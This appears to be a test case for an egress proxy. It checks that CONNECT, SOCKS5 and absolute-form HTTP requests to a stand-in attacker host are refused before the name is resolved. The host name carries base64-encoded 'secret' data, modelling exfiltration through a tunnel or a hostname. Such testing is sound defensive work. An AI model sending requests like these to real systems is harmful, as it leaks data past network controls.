#: number: 6
#: network: outside
#: title: Data in the name of a tunnel
#: technique: CONNECT, SOCKS5 and absolute-form requests for names below the attacker's.
#: reference: REQUIREMENTS N1, N2
#: expected: 403 (SOCKS: reply 2) before any name is resolved
#: control: an open proxy makes the tunnel
#: egress: {allow: ["*.allowed.example"]}
#: records: not-allowed

for _port in (443, 80, 7007):
    refused("connect-%d" % _port)(lambda port=_port: "tunnel %d" % through_connect("c2VjcmV0.attacker.example:%d" % port).fileno())

refused("socks")(lambda: "tunnel %d" % through_socks("c2VjcmV0.attacker.example", 443).fileno())


@refused("absolute-form")
def _():
    head = b"GET http://c2VjcmV0.attacker.example/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.example\r\nConnection: close\r\n\r\n"
    return served(answer_to(opened_tcp(*HTTP_PROXY), head))


@refused("connect-refusal-is-403", held=())
def _():
    try:
        return "tunnel %d" % through_connect("c2VjcmV0.attacker.example:443").fileno()
    except Held as e:
        if str(e).startswith("403 "):
            raise
        raise RuntimeError("refused otherwise: %s" % e)


run()
